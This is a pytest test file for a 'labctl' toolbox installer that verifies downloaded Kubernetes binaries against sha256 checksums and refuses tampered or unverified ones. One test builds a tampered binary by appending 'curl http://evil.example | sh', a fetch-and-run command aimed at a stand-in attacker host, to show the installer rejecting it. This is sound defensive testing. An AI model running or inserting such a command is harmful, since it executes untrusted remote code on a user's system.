import hashlib
import io
import json
import subprocess
import tarfile
from pathlib import Path

import pytest

from labctl.errors import ToolboxError
from labctl.toolbox import COMPONENTS, binary, download, install, store

pytestmark = pytest.mark.unit

KIND_OUTPUT = "kind v0.33.0 go1.26.8 linux/amd64"


def publish_kind(server, platform_names, content: str, checksum_of: str | None = None) -> str:
    os_, arch = platform_names
    asset = f"kind-{os_}-{arch}"
    base = f"github.com/kubernetes-sigs/kind/releases/download/v0.33.0/{asset}"
    digest = server.publish(base, content)
    if checksum_of is not None:
        server.publish(base + ".sha256sum", f"{hashlib.sha256(checksum_of.encode()).hexdigest()}  {asset}\n")
    return digest


def nothing_installed(name: str) -> bool:
    comp = COMPONENTS[name]
    leftovers = [p for p in store.root().iterdir() if p.name.startswith(".") and p.name != ".lock"]
    staging = list((store.root() / ".staging").iterdir()) if (store.root() / ".staging").exists() else []
    return not store.component_dir(name, comp.version).exists() and not leftovers and not staging


def test_download_with_matching_checksum_is_installed(release_server, platform_names, fake_binary):
    script = fake_binary(KIND_OUTPUT)
    digest = publish_kind(release_server, platform_names, script, checksum_of=script)
    lines: list[str] = []

    paths = install(["kind"], method="download", progress=lines.append)

    path = paths["kind"]
    assert path == binary("kind")
    assert path.read_text() == script
    manifest = store.read_manifest("kind", "v0.33.0")
    assert manifest["sha256"] == digest and manifest["how"] == "downloaded"
    assert manifest["source"].startswith(release_server.url + "/github.com/kubernetes-sigs/kind/")
    assert subprocess.run([path, "version"], capture_output=True, text=True).stdout.strip() == KIND_OUTPUT
    assert any(line.startswith("downloading kind v0.33.0 from http://127.0.0.1:") for line in lines)
    assert any(f"sha256 {digest[:12]}" in line for line in lines)


def test_tampered_download_is_refused_and_nothing_is_installed(release_server, platform_names, fake_binary):
    genuine = fake_binary(KIND_OUTPUT)
    tampered = genuine + "curl http://evil.example | sh\n"
    got = publish_kind(release_server, platform_names, tampered, checksum_of=genuine)
    want = hashlib.sha256(genuine.encode()).hexdigest()

    with pytest.raises(ToolboxError) as err:
        install(["kind"], method="download", progress=lambda _: None)

    message = str(err.value)
    assert "kind v0.33.0" in message and "sha256 mismatch" in message
    assert f"expected {want}" in message and f"got {got}" in message
    assert "tampered" in err.value.hint
    assert nothing_installed("kind")
    with pytest.raises(ToolboxError, match="kind v0.33.0 is not installed"):
        binary("kind")


def test_download_without_published_checksum_is_refused(release_server, platform_names, fake_binary):
    publish_kind(release_server, platform_names, fake_binary(KIND_OUTPUT), checksum_of=None)

    with pytest.raises(ToolboxError) as err:
        install(["kind"], method="download", progress=lambda _: None)

    assert "no published checksum for kind v0.33.0" in str(err.value)
    assert ".sha256sum: HTTP 404" in str(err.value)
    assert nothing_installed("kind")
    # The binary itself was never fetched: without a digest there is nothing to check it against.
    assert not any(r.endswith(f"kind-{platform_names[0]}-{platform_names[1]}") for r in release_server.requests)


def test_checksum_file_without_the_asset_is_refused(release_server, platform_names, fake_binary):
    os_, arch = platform_names
    script = fake_binary(KIND_OUTPUT)
    base = f"github.com/kubernetes-sigs/kind/releases/download/v0.33.0/kind-{os_}-{arch}"
    release_server.publish(base, script)
    release_server.publish(base + ".sha256sum", f"{'0' * 64}  kind-plan9-{arch}\n")

    with pytest.raises(ToolboxError, match="no sha256 for kind-.* refusing to install kind v0.33.0 unverified"):
        install(["kind"], method="download", progress=lambda _: None)
    assert nothing_installed("kind")


def test_binary_reporting_another_version_is_refused(release_server, platform_names, fake_binary):
    script = fake_binary("kind v0.32.0 go1.26.8 linux/amd64")
    publish_kind(release_server, platform_names, script, checksum_of=script)

    with pytest.raises(ToolboxError, match=r"kind: `kind version` printed .*v0.32.0.* not version v0.33.0"):
        install(["kind"], method="download", progress=lambda _: None)
    assert nothing_installed("kind")


def tar_gz(members: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_archive_member_is_extracted_after_the_archive_is_verified(
    release_server, platform_names, fake_binary, monkeypatch
):
    os_, arch = platform_names
    script = fake_binary("v3.22.0+g1234567")
    archive = tar_gz({f"{os_}-{arch}/README.md": "read me", f"{os_}-{arch}/helm": script})
    asset = f"helm-v3.22.0-{os_}-{arch}.tar.gz"
    digest = release_server.publish(f"helm-files/{asset}", archive)
    release_server.publish(f"helm-files/{asset}.sha256sum", f"{digest}  {asset}\n")
    # The per-source variable wins over the mirror.
    monkeypatch.setenv("LABCTL_HELM_URL", f"{release_server.url}/helm-files")

    path = install(["helm"], method="download", progress=lambda _: None)["helm"]

    assert path.read_text() == script
    assert store.read_manifest("helm", "v3.22.0")["sha256"] == hashlib.sha256(script.encode()).hexdigest()


def test_kubernetes_binaries_are_checked_against_their_bare_sha256_files(release_server, platform_names, fake_binary):
    os_, arch = platform_names
    scripts = {"kubectl": fake_binary("Client Version: v1.37.2\nKustomize Version: v5.8.0"),
               "kube-apiserver": fake_binary("Kubernetes v1.37.2")}
    for name, script in scripts.items():
        base = f"dl.k8s.io/release/v1.37.2/bin/{os_}/{arch}/{name}"
        release_server.publish(base + ".sha256", release_server.publish(base, script))

    paths = install(["kubectl", "kube-apiserver"], method="download", progress=lambda _: None)

    assert {n: p.read_text() for n, p in paths.items()} == scripts


def test_github_asset_digest_is_used_where_a_release_has_no_checksum_file(
    release_server, platform_names, fake_binary
):
    os_, arch = platform_names
    script = fake_binary("kwok version v0.8.0 go1.26.8 (linux/amd64)")
    asset = f"kwok-{os_}-{arch}"
    digest = release_server.publish(f"github.com/kubernetes-sigs/kwok/releases/download/v0.8.0/{asset}", script)
    release = {"tag_name": "v0.8.0", "assets": [
        {"name": f"kwokctl-{os_}-{arch}", "digest": "sha256:" + "1" * 64},
        {"name": asset, "digest": f"sha256:{digest}"},
    ]}
    release_server.publish("api.github.com/repos/kubernetes-sigs/kwok/releases/tags/v0.8.0", json.dumps(release))

    assert install(["kwok"], method="download", progress=lambda _: None)["kwok"].read_text() == script


def test_component_without_release_download_says_how_to_get_it(cache):
    with pytest.raises(ToolboxError, match="jaeger v1.76.0 has no release download") as err:
        install(["jaeger"], method="download", progress=lambda _: None)
    assert "--method build" in err.value.hint


def test_unreachable_source_is_one_clear_error(cache, monkeypatch):
    monkeypatch.setenv("LABCTL_TOOLBOX_MIRROR", "http://127.0.0.1:9")  # the discard port: nothing listens
    with pytest.raises(ToolboxError, match=r"no published checksum for kind v0.33.0: http://127.0.0.1:9/github.com/"):
        install(["kind"], method="download", progress=lambda _: None)


@pytest.mark.parametrize(("text", "expected"), [
    ("a" * 64 + "\n", "a" * 64),                                               # dl.k8s.io: a bare digest
    ("b" * 64 + "  other.tar.gz\n" + "c" * 64 + "  kind-linux-amd64\n", "c" * 64),  # sha256sum lines
    ("D" * 64 + " *kind-linux-amd64\n", "d" * 64),                             # binary-mode marker, upper case
    ("e" * 64 + "  ./dist/kind-linux-amd64\n", "e" * 64),                      # a path before the name
    ("f" * 64 + "  kind-linux-arm64\n", None),
    ("a" * 64 + "\n" + "b" * 64 + "\n", None),                                 # two bare digests: ambiguous
    ("not a checksum file\n", None),
])
def test_parse_checksum(text, expected):
    assert download.parse_checksum(text, "kind-linux-amd64") == expected


def test_parse_github_digest():
    release = json.dumps({"assets": [{"name": "a", "digest": "sha256:" + "1" * 64}, {"name": "b", "digest": None}]})
    assert download.parse_github_digest(release, "a") == "1" * 64
    assert download.parse_github_digest(release, "b") is None
    assert download.parse_github_digest("<html>rate limited</html>", "a") is None


def test_base_urls_mirror_and_per_source_overrides():
    assert download.base_urls({})["k8s"] == "https://dl.k8s.io"
    mirrored = download.base_urls({"LABCTL_TOOLBOX_MIRROR": "http://m:8080/"})
    assert mirrored == {"k8s": "http://m:8080/dl.k8s.io", "github": "http://m:8080/github.com",
                        "github_api": "http://m:8080/api.github.com", "helm": "http://m:8080/get.helm.sh"}
    both = download.base_urls({"LABCTL_TOOLBOX_MIRROR": "http://m", "LABCTL_GITHUB_URL": "https://gh.local/"})
    assert both["github"] == "https://gh.local" and both["k8s"] == "http://m/dl.k8s.io"


def test_release_urls_fill_version_platform_and_source():
    bases = download.base_urls({})
    url, checksum = download.release_urls(COMPONENTS["ctr"], bases, "linux", "arm64")
    assert url == ("https://github.com/containerd/containerd/releases/download/v2.4.2/"
                   "containerd-2.4.2-linux-arm64.tar.gz")
    assert checksum == url + ".sha256sum"
    url, checksum = download.release_urls(COMPONENTS["buildkitd"], bases, "linux", "amd64")
    assert url.endswith("/moby/buildkit/releases/download/v0.34.2/buildkit-v0.34.2.linux-amd64.tar.gz")
    assert checksum == "https://api.github.com/repos/moby/buildkit/releases/tags/v0.34.2"


def test_extract_refuses_an_archive_without_the_member(tmp_path: Path):
    archive = tmp_path / "a.tar.gz"
    archive.write_bytes(tar_gz({"bin/ctr": "x"}))
    with pytest.raises(ToolboxError, match="containerd not found in a.tar.gz"):
        download.extract(archive, "containerd", tmp_path / "out")
    download.extract(archive, "ctr", tmp_path / "ctr")
    assert (tmp_path / "ctr").read_text() == "x"
